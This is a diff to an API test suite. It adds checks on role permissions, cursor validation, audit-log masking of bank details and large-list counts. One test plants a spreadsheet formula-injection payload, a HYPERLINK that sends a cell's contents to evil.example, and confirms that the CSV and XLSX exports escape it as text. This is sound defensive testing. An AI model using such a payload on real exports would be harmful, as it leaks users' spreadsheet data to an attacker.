@@ -1,8 +1,10 @@
 /** One suite over every descriptor: CRUD, validation, tenant isolation, permissions, export. */
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { RESOURCES } from '#shared/resources/registry.ts';
+import { BUILTIN_ROLES } from '#shared/resources/permissions.ts';
 import { createClient, createTestApp, latestCode, type TestApp } from '../../test/harness.ts';
-import { RESOURCE_FIXTURES, type Refs } from './fixtures.ts';
+import { RESOURCE_FIXTURES, type Refs } from '../../test/resource-fixtures.ts';
 
 let t: TestApp;
 type Client = ReturnType<typeof createClient> & { orgId?: string; email: string };
@@ -90,7 +92,9 @@ describe.each(RESOURCES.map((d) => [d.name, d] as const))('%s', (name, d) => {
   });
 
   it('checks the role’s permissions on the server', async () => {
-    expect((await staffOfA.get(path)).statusCode).toBe(200);
+    // The Staff role reads every area but the sensitive ones (bank details).
+    const readable = BUILTIN_ROLES.staff.permissions.some((p) => p === `${d.permissionModule}.view`);
+    expect((await staffOfA.get(path)).statusCode).toBe(readable ? 200 : 403);
     const denied = await staffOfA.post(path, fx.valid(3));
     expect(denied.statusCode).toBe(403);
     expect(denied.data.error.code).toBe('forbidden');
@@ -122,6 +126,12 @@ describe.each(RESOURCES.map((d) => [d.name, d] as const))('%s', (name, d) => {
     const byCursor = (await a.get(`${path}?per_page=2&sort=${d.defaultSort}&cursor=${first.meta.next_cursor}`)).data;
     expect(byCursor.data.map((r: { id: string }) => r.id)).toEqual(second.data.map((r: { id: string }) => r.id));
     expect((await a.get(`${path}?sort=nope`)).statusCode).toBe(422);
+    // Cursors that are not the list's own are refused before they reach PostgreSQL (they answered 500).
+    const cursor = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
+    const id = all.data[0].id;
+    for (const bad of [[{ a: 1 }, id], ['x', 'd{'], [true, id], ['yesterday', id]]) {
+      expect((await a.get(`${path}?sort=created_at&cursor=${cursor(bad)}`)).statusCode, JSON.stringify(bad)).toBe(422);
+    }
     expect((await a.get(`${path}?filter[nope]=1`)).statusCode).toBe(422);
     expect((await a.get(`${path}?per_page=101`)).statusCode).toBe(422);
     const sample = all.data[0][d.searchable[0]] as string;
@@ -161,6 +171,52 @@ describe('specific resource rules', () => {
     const withSort = await a.post('/api/bank-details', RESOURCE_FIXTURES['bank-details'].valid(77, {}));
     expect(withSort.data.data.sort_code).toBe('60-16-13');
     expect((await a.post('/api/bank-details', { account_name: 'X', bank_name: 'Y', iban: 'NL91ABNA0417164301', currency: 'EUR' })).statusCode).toBe(422);
+  });
+});
+
+describe('data leaving the product (issue 8, finding 5)', () => {
+  it('exports text that a spreadsheet would run as a formula as text, in CSV and XLSX', async () => {
+    const evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+    const res = await a.post('/api/charge-codes', { code: 'XSS1', name: evil, category: 'documentation', basis: 'per_bl', default_currency: 'GBP', description: '@SUM(1+1)' });
+    expect(res.statusCode).toBe(201);
+    const csv = (await a.get('/api/charge-codes/export?format=csv&q=XSS1')).body;
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
+    expect(csv).toContain(`'@SUM(1+1)`);
+    const xlsx = await a.get('/api/charge-codes/export?format=xlsx&q=XSS1');
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+    const values = book.worksheets[0].getRow(2).values as unknown[];
+    expect(values).toContain(`'${evil}`);
+    expect(values).toContain(`'@SUM(1+1)`);
+    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
+  });
+
+  it('keeps IBANs and account numbers masked in the audit trail', async () => {
+    const res = await a.post('/api/bank-details', { account_name: 'Audit GBP', bank_name: 'Barclays', iban: 'GB29 NWBK 6016 1331 9268 19', sort_code: '601613', account_number: '31926819', currency: 'GBP' });
+    expect(res.statusCode).toBe(201);
+    await a.request('PATCH', `/api/bank-details/${res.data.data.id}`, { iban: 'GB82 WEST 1234 5698 7654 32' });
+    const rows = await t.database.query<{ changes: Record<string, unknown> }>('select changes from audit_events where entity_id = $1 order by created_at, id', [res.data.data.id]);
+    expect(rows.map((r) => r.changes.iban)).toEqual(['GB29 **** 6819', 'GB82 **** 5432']);
+    expect(rows[0].changes.account_number).toBe('****');
+    expect(JSON.stringify(rows)).not.toMatch(/NWBK|WEST|31926819/);
+    expect((await a.get(`/api/bank-details/${res.data.data.id}`)).data.data.iban).toBe('GB82WEST12345698765432');
+  });
+});
+
+describe('counting large lists', () => {
+  it('counts up to a thousand matches exactly and says when there are more, with the pages still right', async () => {
+    const c = await owner('Delta Lines');
+    await t.database.query(
+      `insert into tasks (organisation_id, id, title, status, priority)
+       select $1, gen_random_uuid(), 'Bulk task ' || lpad(g::text, 4, '0'), 'todo', 'normal' from generate_series(1, 1200) g`,
+      [c.orgId],
+    );
+    const all = (await c.get('/api/tasks?per_page=25&sort=title')).data;
+    expect(all.meta).toMatchObject({ total: 1000, total_exact: false });
+    const some = (await c.get('/api/tasks?per_page=25&q=Bulk%20task%2001')).data;
+    expect(some.meta).toMatchObject({ total: 100, total_exact: true });
+    const page = (await c.get('/api/tasks?per_page=25&sort=title&page=45')).data;
+    expect(page.data.map((r: { title: string }) => r.title)).toEqual(Array.from({ length: 25 }, (_, i) => `Bulk task ${String(1101 + i).padStart(4, '0')}`));
   });
 });
 
